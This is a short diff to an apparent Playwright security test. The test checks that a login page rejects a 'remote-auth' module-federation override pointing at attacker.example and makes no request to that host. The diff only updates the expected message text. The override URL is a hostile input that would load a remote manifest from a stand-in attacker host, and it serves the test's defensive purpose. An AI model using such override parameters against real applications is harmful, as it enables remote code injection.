@@ -52,7 +52,7 @@ test.describe('an override', () => {
     const asked: string[] = []
     page.on('request', (request) => asked.push(new URL(request.url()).hostname))
     await page.goto('/login?override=remote-auth@https://attacker.example/mf-manifest.json')
-    await expect(strip(page)).toContainText('was not taken')
+    await expect(strip(page)).toContainText('was ignored')
     await expect(heading(page)).toBeVisible()
     expect(asked).not.toContain('attacker.example')
   })
